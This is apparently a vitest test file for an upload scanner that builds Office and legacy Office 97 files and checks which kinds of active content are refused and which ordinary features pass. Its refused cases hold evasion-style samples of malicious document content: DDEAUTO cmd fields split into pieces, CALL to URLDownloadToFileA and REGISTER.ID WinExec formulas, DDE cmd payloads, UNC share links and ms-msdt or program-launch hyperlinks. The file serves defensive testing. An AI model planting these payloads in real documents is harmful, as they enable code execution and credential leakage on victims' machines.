/** What Office documents may hold that could do something by itself: each kind that is refused, and what is common. */
import { rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { strToU8, type Zippable } from "fflate";
import { afterAll, describe, expect, test } from "vitest";
import type { FileType } from "#app/platform/uploads/file-types.ts";
import { readContent } from "#app/platform/uploads/read-content.server.ts";
import {
  type FileProblem,
  sayProblem,
  statusOfProblems,
  USUAL_LIMITS,
} from "#app/platform/uploads/upload.ts";
import * as make from "../../support/scene/upload-files.ts";
import { storedFolder } from "../../support/scene/stored-folder.ts";

const folder = storedFolder();
afterAll(() => rmSync(folder, { recursive: true, force: true }));

async function check(bytes: Uint8Array, type: FileType) {
  const path = join(folder, "file");
  writeFileSync(path, bytes);
  return (await readContent(path, type, false)).problem;
}

const part = (
  kind: "docx" | "xlsx" | "pptx",
  text: string | Uint8Array,
  name = "more.xml",
  type = "application/xml",
) =>
  make.office(kind, {
    "[Content_Types].xml": make.typesPart(kind, `<Override PartName="/${name}" ContentType="${type}"/>`),
    [name]: typeof text === "string" ? strToU8(text) : text,
  });
const escaped = (text: string) =>
  text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll('"', "&quot;");
const mark = (kind: string) => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`;
const code = (text: string) => `<w:r><w:instrText>${escaped(text)}</w:instrText></w:r>`;
const field = (inside: string, result = "") =>
  `${mark("begin")}${inside}${mark("separate")}<w:r><w:t>${result}</w:t></w:r>${mark("end")}`;
const word = (inside: string) => part("docx", `<w:document>${inside}</w:document>`);
const cell = (formula: string) => part("xlsx", `<c r="A1"><f>${escaped(formula)}</f><v>1</v></c>`);
const related = (type: string, target: string): Zippable => ({
  "_rels/main.xml.rels": make.relations({ type, target, isOutside: true }),
});
const link = (target: string) => make.office("docx", related("hyperlink", target));
const otherBook = (target: string) => make.office("xlsx", related("externalLinkPath", target));
const utf16 = (text: string) => new Uint8Array(Buffer.from(`\ufeff${text}`, "utf16le"));
const old = (inside: string) => make.oldWord(`See \x13${inside}\x14that\x15.`);

/** A document of Word 97 whose list of pieces has so many bytes. */
const oldWordWithPieces = (bytes: number) => {
  const file = Buffer.from(make.oldWord());
  file.writeUInt32LE(bytes, file.indexOf(Buffer.from("021c000000", "hex")) + 1);
  return new Uint8Array(file);
};

/** A formula of Excel 97 in a cell. */
const oldFormula = (...tokens: (number | Buffer)[]): [number, Uint8Array] => {
  const rgce = Buffer.concat(tokens.map((one) => (typeof one === "number" ? Buffer.from([one]) : one)));
  const head = Buffer.alloc(22);
  head.writeUInt16LE(rgce.length, 20);
  return [0x0006, Buffer.concat([head, rgce])];
};
const oldText = (text: string) =>
  Buffer.concat([Buffer.from([0x17, text.length, 0]), Buffer.from(text, "latin1")]);
const call = (number: number, count = 1) => Buffer.from([0x42, count, number & 255, number >> 8]);
const oldName = (name: string): [number, Uint8Array] => {
  const head = Buffer.alloc(15);
  head[3] = name.length;
  return [0x0018, Buffer.concat([head, Buffer.from(name, "latin1")])];
};
const oldBook = (path: string): [number, Uint8Array] => {
  const head = Buffer.alloc(5);
  head.writeUInt16LE(path.length, 2);
  return [0x01ae, Buffer.concat([head, Buffer.from(path, "latin1")])];
};
const click = (action: number) => {
  const atom = Buffer.alloc(24);
  atom.writeUInt16LE(0x0ff3, 2);
  atom.writeUInt32LE(16, 4);
  atom[16] = action;
  return make.compoundWith("PowerPoint Document", atom);
};

type Row = [what: string, bytes: Uint8Array, type?: FileType];

const refused: Partial<Record<FileProblem, Row[]>> = {
  field: [
    ["INCLUDEPICTURE", word(field(code(' INCLUDEPICTURE "\\\\\\\\10.0.0.1\\\\a\\\\b.png" \\d ')))],
    ["INCLUDETEXT", word(field(code(' INCLUDETEXT "https://x.example/a.docx" ')))],
    ["LINK", word(field(code(' LINK Excel.Sheet.12 "\\\\\\\\host\\\\a.xlsx" R1C1 \\a ')))],
    ["DATABASE", word(field(code(' DATABASE \\d "\\\\\\\\host\\\\a.mdb" ')))],
    ["DDEAUTO in small letters", word(field(code(" ddeauto cmd ")))],
    ["DDE in pieces", word(field(["D", "DE", "AUTO cmd"].map(code).join("")))],
    [
      "DDE in pieces of which one is plain text",
      word(field(`${code("D")}<w:r><w:t>DEAUTO</w:t></w:r>${code(" cmd")}`)),
    ],
    ["DDE in a comment's gap", word(field("<w:instrText>DDE<!-- -->AUTO cmd</w:instrText>"))],
    ["a simple field", word(`<w:fldSimple w:instr=' DDEAUTO c:\\\\cmd.exe "/k"'/>`)],
    [
      "a name put together by QUOTE",
      word(field(field(code(" QUOTE 68 68 69 65 85 84 79 "), "DDEAUTO") + code(" cmd"))),
    ],
    [
      "half a name put together by QUOTE",
      word(field(code("DDE") + field(code("QUOTE 65"), "A") + code(" cmd"))),
    ],
    [
      "a command inside an IF",
      word(field(code(' IF 1 = 1 "') + field(code(" DDEAUTO cmd ")) + code('" "" '))),
    ],
    ["a field that never ends", word(mark("begin") + code(" INCLUDETEXT a.docx "))],
    ["a field that is not known", word(field(code(" ZZZ ")))],
    ["a name in quotes", word(field(code(' "DDEAUTO" cmd ')))],
    ["a button that runs", word(field(code(" MACROBUTTON Evil Click ")))],
    ["a click to a share", word(field(code(' HYPERLINK "\\\\\\\\host\\\\a" ')))],
    ["a click to a program", word(field(code(' HYPERLINK "ms-msdt:/id" \\o "Tip" ')))],
    ["a click to what is worked out", word(field(code(" HYPERLINK ") + field(code(" DOCVARIABLE x "))))],
    [
      "a command in a part of another type",
      part("docx", `<w:hdr>${field(code(" LINK x "))}</w:hdr>`, "a.bin", "image/png"),
    ],
    ["a command in UTF-16", part("docx", utf16(`<w:hdr>${field(code(" LINK x "))}</w:hdr>`), "word/h.vml")],
    [
      "a command behind 600 spaces",
      part("docx", `${" ".repeat(600)}<w:hdr>${field(code(" LINK x "))}</w:hdr>`),
    ],
    ["a command in a document of Word 97", old(" DDEAUTO cmd "), "doc"],
    ["a picture elsewhere in one of Word 97", old(' INCLUDEPICTURE "\\\\\\\\host\\\\a.png" '), "doc"],
    ["a name by QUOTE in one of Word 97", old("\x13QUOTE 68 68 69\x14DDE\x15 cmd"), "doc"],
  ],
  formula: [
    ["WEBSERVICE", cell('_xlfn.WEBSERVICE("http://x/"&A1)')],
    ["WEBSERVICE inside", cell("IF(A1>1,FILTERXML(WEBSERVICE(A2),B1),0)")],
    ["IMAGE", cell('_xlfn.IMAGE("https://x/a.png")')],
    ["RTD", cell('RTD("server",,"topic")')],
    ["CALL", cell('CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,A1,A2,0,0)')],
    ["REGISTER.ID in small letters", cell('register.id("kernel32","WinExec")')],
    ["EXEC", cell('EXEC("calc")')],
    ["DDE", cell("cmd|'/c calc'!A0")],
    ["DDE in quotes", cell("'cmd'|'/c calc'!'A0'")],
    ["another machine’s workbook", cell("'\\\\host\\share\\[a.xlsx]Sheet1'!A1")],
    ["a function behind an odd bracket", cell('Table1[\'[x]+CALL("k","x")+Table1[\'[y]')],
    ["a function behind a quote", cell("'it[s'!B1+CALL(\"k\")+']x'!A1")],
    ["a click to a share", cell('HYPERLINK("\\\\host\\a","x")')],
    ["a click to a share in pieces", cell('HYPERLINK("\\"&"\\host\\a","x")')],
    ["a click to a file on another machine", cell('HYPERLINK("file://host/a","x")')],
    ["a name", part("xlsx", '<definedName name="a">_xlfn.WEBSERVICE("http://x")</definedName>')],
    ["a format’s condition", part("xlsx", '<cfRule><formula>CALL("a","b")</formula></cfRule>')],
    [
      "a check of what is typed",
      part("xlsx", "<dataValidation><formula1>RTD(1,2,3)</formula1></dataValidation>"),
    ],
    ["a chart", part("xlsx", '<c:val><c:f>RTD("a",,"b")</c:f></c:val>')],
    ["a column of a table", part("xlsx", "<calculatedColumnFormula>EXEC(1)</calculatedColumnFormula>")],
    ["a part of another type", part("xlsx", "<c><f>EXEC(1)</f></c>", "xl/a.bin", "application/x-printer")],
    ["CALL in one of Excel 97", make.oldWorkbook(oldFormula(oldText("kernel32"), call(150))), "xls"],
    ["RTD in one of Excel 97", make.oldWorkbook(oldFormula(oldText("a"), call(379))), "xls"],
    ["WEBSERVICE in one of Excel 97", make.oldWorkbook(oldName("_xlfn.WEBSERVICE")), "xls"],
    [
      "a click to a share in one of Excel 97",
      make.oldWorkbook(oldFormula(oldText("\\\\host\\a"), call(359))),
      "xls",
    ],
  ],
  connection: [
    [
      "a connection that refreshes",
      part("xlsx", '<connections><connection id="1" refreshOnLoad="1"/></connections>'),
    ],
    [
      "one that refreshes by the clock",
      part("xlsx", '<connections><connection id="1" interval="5"/></connections>'),
    ],
    ["a table of a query", part("xlsx", '<queryTable refreshOnLoad="true"/>')],
    [
      "a pivot table of a database",
      part(
        "xlsx",
        '<pivotCacheDefinition refreshOnLoad="1"><cacheSource type="external"/></pivotCacheDefinition>',
      ),
    ],
    ["links that are always followed", part("xlsx", '<workbookPr updateLinks="always"/>')],
  ],
  link: [
    ["a click to a share", link("\\\\host\\share")],
    ["a click to a share by file:", link("file://host/share/a.docx")],
    ["a click to a share in Word’s letters", link("file:///\\\\host\\share\\a.docx")],
    ["a click to a share in escapes", link("file:///%5C%5Chost%5Ca.docx")],
    ["a click to a program", link("search-ms:query=a&amp;crumb=location:x")],
    ["a click that runs", link("javascript:alert(1)")],
  ],
  linked: [
    ["another machine’s workbook", otherBook("file:///\\\\host\\a.xlsx"), "xlsx"],
    ["a workbook on the web", otherBook("https://x.example/a.xlsx"), "xlsx"],
    ["a service", part("xlsx", '<externalLink><ddeLink ddeService="cmd"/></externalLink>', "a.bin"), "xlsx"],
    [
      "another program’s object",
      part("xlsx", '<externalLink><oleLink progId="Package"/></externalLink>', "a.bin"),
      "xlsx",
    ],
    ["an object that is linked", part("docx", '<o:OLEObject Type="Link" ProgID="Excel"/>', "a.xml")],
    ["a picture of an old drawing", part("docx", '<v:imagedata src="https://x.example/a.png"/>', "a.vml")],
    ["a service in one of Excel 97", make.oldWorkbook(oldBook("cmd\x03/c calc")), "xls"],
    [
      "another machine’s workbook in one of Excel 97",
      make.oldWorkbook(oldBook("\x01\x01@host\x03a.xls")),
      "xls",
    ],
  ],
  macros: [
    [
      "a ribbon of its own",
      make.office("docx", {
        "_rels/.rels": make.relations(
          { type: "officeDocument", target: "main.xml" },
          {
            type: "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility",
            target: "c.xml",
          },
        ),
      }),
    ],
    [
      "a click that starts a program",
      part("pptx", '<a:hlinkClick action="ppaction://program?file=cmd"/>', "a.bin"),
    ],
    ["a click that is not known", part("pptx", '<a:hlinkMouseOver action="ppaction://zzz"/>')],
    ["a program in slides of 97", click(2), "ppt"],
    ["a macro in slides of 97", click(1), "ppt"],
  ],
  "old-form": [
    ["a document of Word 95", make.oldWord("A letter.", 0x65), "doc"],
    ["a document of Word 97 without a piece of text", oldWordWithPieces(4), "doc"],
    ["one with half a piece", oldWordWithPieces(22), "doc"],
    [
      "a workbook of Excel 95",
      make.compoundWith("Book", Buffer.from("09080800000500000000000000000000", "hex")),
      "xls",
    ],
    ["a formula of unknown parts", make.oldWorkbook(oldFormula(0x3f)), "xls"],
    ["a query", make.oldWorkbook([0x00dc, new Uint8Array(12)]), "xls"],
  ],
};

describe.each(Object.entries(refused))("%s", (problem, rows) => {
  test.each(rows)("%s is refused, with what to do", async (_what, bytes, type) => {
    const tried = type ? [type] : (["docx", "xlsx", "pptx"] as const);
    const found = await Promise.all(tried.map((one) => check(bytes, one)));
    expect(found.find((one) => one !== "content")).toBe(problem);
  });

  test("says so in a sentence of its own", () => {
    const one = { name: "a.docx", problem: problem as FileProblem };
    expect(sayProblem(one, USUAL_LIMITS)).toMatch(
      /^“a\.docx” .*\. .*(?:choose (?:it again|the file again|that))\.$/,
    );
    expect(statusOfProblems([one])).toBe(415);
  });
});

const common: Row[] = [
  ["a click to a file of the same drive", link("/letters/a.docx")],
  [
    "a table of contents",
    word(field(code(' TOC \\o "1-3" \\h \\z \\u '), "") + field(code(' HYPERLINK \\l "_Toc1" ') + "", "One")),
  ],
  [
    "a table of contents with its pages",
    word(field(code(' TOC \\o "1-3" '), field(code(" PAGEREF _Toc1 \\h "), "3"))),
  ],
  ["pages of pages", word(field(code(" PAGE ")) + field(code(" NUMPAGES \\* MERGEFORMAT ")))],
  [
    "a caption and a reference to it",
    word(field(code(" SEQ Figure \\* ARABIC "), "1") + field(code(" REF _Ref1 \\h "))),
  ],
  [
    "a letter to many",
    word(field(code(" IF ") + field(code(" MERGEFIELD Sex ")) + code(' = "f" "Ms" "Mr" '))),
  ],
  ["a sum", word(field(code(' =SUM(ABOVE) \\# "#,##0" ')))],
  [
    "fields of a form",
    word(["FORMTEXT", "FORMCHECKBOX", "FORMDROPDOWN"].map((one) => field(code(` ${one} `))).join("")),
  ],
  [
    "the notes of a reference manager",
    word(field(code(' ADDIN ZOTERO_ITEM CSL_CITATION {"uris":["http://x"]} '))),
  ],
  ["a place to click and type", word(field(code(" MACROBUTTON NoMacro [Click here] ")))],
  [
    "a link of the web",
    word(field(code(' HYPERLINK "https://x.example/a?b=c" \\l "d" \\o "See: there" \\t "_blank" '))),
  ],
  [
    "a link with a field in its path",
    word(field(code(' HYPERLINK "https://x.example/') + field(code(" MERGEFIELD id ")) + code('" '))),
  ],
  [
    "dates and file names",
    word(
      ['DATE \\@ "d MMMM yyyy"', "FILENAME \\p", 'STYLEREF "Heading 1"', "DOCPROPERTY Company", "TITLE"]
        .map((one) => field(code(` ${one} `)))
        .join(""),
    ),
  ],
  ["an empty field", word(field(""))],
  [
    "the words of commands in its text",
    word("<w:p><w:r><w:t>INCLUDETEXT and DDEAUTO are commands, =CALL(1)</w:t></w:r></w:p>"),
  ],
  ["a command in a result", word(field(code(" TITLE "), "DDEAUTO cmd"))],
  [
    "a comment and a footnote",
    part("docx", "<w:footnote><w:p><w:r><w:t>See note</w:t></w:r></w:p></w:footnote>"),
  ],
  ["links to the web, to mail and to a file beside it", link("https://x.example/")],
  ["a link to mail", link("mailto:a@x.example?subject=A%20B")],
  ["a link to a file beside it", link("../Models/Model%20v2.xlsx#Sheet1!A1")],
  ["a link to a file on a drive", link("file:///C:\\Users\\me\\a.xlsx")],
  [
    "a picture of a drawing program",
    part(
      "docx",
      '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x"><svg/>',
      "a.svg",
      "image/svg+xml",
    ),
  ],
  ["Outlook’s pictures", part("docx", '<v:imagedata r:id="rId1" o:href="cid:image001.png@01D0"/>', "a.vml")],
  [
    "functions of every day",
    cell("IFERROR(INDEX(B:B,MATCH(A1,'Q1 | Q2'!A:A,0)),SUM(Table1[[#This Row],[Call (£)]]))"),
  ],
  ["functions of later Excels", cell("_xlfn._xlws.FILTER(A1:B9,_xlfn.XLOOKUP(1,A:A,B:B)>0)")],
  ["LAMBDA with a parameter of any name", cell("_xlfn.LAMBDA(_xlpm.call,_xlpm.call(1))(A1)")],
  ["Bloomberg", cell('BDP("VOD LN Equity","PX_LAST")+_xll.BDH(A1,"PX_LAST","-1Y","")')],
  ["FactSet and Capital IQ", cell('FDS("VOD-GB","P_PRICE")+CIQ("LSE:VOD","IQ_TOTAL_REV")')],
  ["FILTERXML of a cell, and a pipe in a text", cell('FILTERXML(A1,"//a")&"a|b"&"CALL(1)"')],
  ["a link by formula", cell('HYPERLINK("https://x.example/"&A1,"See")&HYPERLINK("#Sheet2!A1","Go")')],
  ["another workbook on a drive", otherBook("file:///C:/b.xlsx"), "xlsx"],
  ["another workbook beside it", otherBook("Model.xlsx"), "xlsx"],
  [
    "a pivot table that counts anew",
    part(
      "xlsx",
      '<pivotCacheDefinition refreshOnLoad="1"><cacheSource type="worksheet"/></pivotCacheDefinition>',
    ),
  ],
  [
    "a query that waits",
    part(
      "xlsx",
      '<connections><connection id="1" type="5" refreshedVersion="6" background="1"/></connections>',
    ),
  ],
  [
    "names, checks, formats and a chart",
    part(
      "xlsx",
      "<x><definedName>Sheet1!$A$1:$B$9</definedName><formula1>&quot;a,b&quot;</formula1><formula>A1&gt;0</formula><c:f>Sheet1!$A$1</c:f></x>",
    ),
  ],
  [
    "clicks through slides",
    part(
      "pptx",
      '<x><a:hlinkClick action="ppaction://hlinksldjump"/><a:hlinkClick action="ppaction://hlinkshowjump?jump=nextslide"/></x>',
    ),
  ],
  ["a table of contents of Word 97", old(' TOC \\o "1-3" '), "doc"],
  ["a link of Word 97", old(' HYPERLINK "https://x.example/" \\l "a" \x01'), "doc"],
  ["an object of Word 97", old(" EMBED Equation.3 "), "doc"],
  [
    "formulas of Excel 97",
    make.oldWorkbook(oldFormula(Buffer.from([0x1e, 1, 0, 0x1e, 2, 0, 0x03]), call(4)), oldName("Total")),
    "xls",
  ],
  [
    "an add-in of Excel 97",
    make.oldWorkbook([0x01ae, Buffer.from("0100013a", "hex")], oldFormula(oldText("x"), call(255))),
    "xls",
  ],
  ["another workbook of Excel 97", make.oldWorkbook(oldBook("\x01\x01Cbooks\x03a.xls")), "xls"],
  ["clicks of slides of 97", click(4), "ppt"],
];

test.each(common)("%s is taken", async (_what, bytes, type) => {
  const tried = type ? [type] : (["docx", "xlsx", "pptx"] as const);
  const found = await Promise.all(tried.map((one) => check(bytes, one)));
  expect(found.filter((one) => one !== "content")).toEqual([null]);
});
